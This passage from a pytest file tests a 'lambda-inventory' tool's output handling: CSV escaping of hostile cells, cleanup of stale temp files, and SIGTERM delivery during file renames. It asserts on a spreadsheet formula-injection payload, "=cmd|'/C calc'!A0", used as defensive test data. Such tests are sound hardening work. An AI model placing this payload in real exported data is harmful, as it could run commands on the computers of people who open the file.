    status_frame = pd.read_csv(status).replace(PANDAS_PATTERN, PANDAS_REPLACEMENT, regex=True)
    assert status_frame["error_message"].tolist() == list(HOSTILE_CELLS)

    with duckdb.connect() as con:
        con.execute(DUCKDB_MACRO)
        got = con.execute(
            "SELECT csv_unescape(description), csv_unescape(account_name) FROM read_csv(?)"
            " ORDER BY length(function_name), function_name",
            [str(inventory)],
        ).fetchall()
        errors = con.execute("SELECT csv_unescape(error_message) FROM read_csv(?)", [str(status)]).fetchall()
    assert [d for d, _ in got] == list(HOSTILE_CELLS)
    assert {a for _, a in got} == {"=cmd|'/C calc'!A0"}
    assert [e for (e,) in errors] == list(HOSTILE_CELLS)


# --- temporary files left by a killed run; signals during the renames -----------------------------------


def test_a_run_sweeps_the_unlocked_temp_files_of_its_own_names_only(tmp_path: Path) -> None:
    victim = tmp_path / "victim"
    victim.write_text("keep", encoding="utf-8")
    dead = [
        tmp_path / ".x.parquet.dead.tmp",
        tmp_path / ".x.status.parquet.dead.tmp",
        tmp_path / ".x.manifest.json.d.tmp",
    ]
    for path in dead:
        path.write_bytes(b"left by a SIGKILLed run")
    live = tmp_path / ".x.parquet.live.tmp"
    live.write_bytes(b"another run still writing")
    (tmp_path / ".x.parquet.link.tmp").symlink_to(victim)
    (tmp_path / ".other.parquet.dead.tmp").write_bytes(b"not ours")
    with live.open("rb") as holder:
        fcntl.flock(holder.fileno(), fcntl.LOCK_EX)  # what a live run holds on its temporary files
        sink = open_sink(resolve_destination(str(tmp_path / "x.parquet"), None), STATUS_SCHEMA)
        sink.commit(_status(), _record())
    assert [p for p in dead if p.exists()] == []
    assert live.read_bytes() == b"another run still writing"
    assert victim.read_text(encoding="utf-8") == "keep"
    assert _listing(tmp_path) == [
        ".other.parquet.dead.tmp",
        ".x.parquet.link.tmp",
        ".x.parquet.live.tmp",
        "victim",
        "x.manifest.json",
        "x.parquet",
        "x.status.parquet",
    ]


def test_a_signal_during_the_renames_is_delivered_once_all_three_files_are_in_place(tmp_path: Path) -> None:
    """SIGTERM lands the moment the inventory is renamed (an audit hook sends it): the status file and the
    manifest still follow before it acts, so they are never left from the previous run."""
    out = tmp_path / "x.parquet"
    first = open_sink(resolve_destination(str(out), None), STATUS_SCHEMA)
    first.commit(_status(), _record("previous"))
    armed = {"on": True}

    def hook(event: str, args: tuple[Any, ...]) -> None:
        if event == "os.rename" and armed["on"] and str(args[1]) == str(out):
            armed["on"] = False
            os.kill(os.getpid(), signal.SIGTERM)

    sink = open_sink(resolve_destination(str(out), None), STATUS_SCHEMA)
    sink.write(_batch("a", "b"))
    sys.addaudithook(hook)  # cannot be removed; `armed` makes it fire once
    with stop_on_signals(for_signal), pytest.raises(Stopped) as stopped:
        sink.commit(_status(2), _record("next"))
    assert not armed["on"], "the signal was sent"
    assert stopped.value.signum == signal.SIGTERM and stopped.value.published
    assert stopped.value.describe() == "lambda-inventory: terminated (SIGTERM); the output had already been published"
    manifest = json.loads((tmp_path / "x.manifest.json").read_text(encoding="utf-8"))
    assert manifest["run_id"] == "next"
    for name, path in (("inventory", out), ("status", tmp_path / "x.status.parquet")):
        assert manifest["files"][name]["sha256"] == _sha256(path)
    assert pq.read_table(out).num_rows == 2
    assert _listing(tmp_path) == ["x.manifest.json", "x.parquet", "x.status.parquet"]
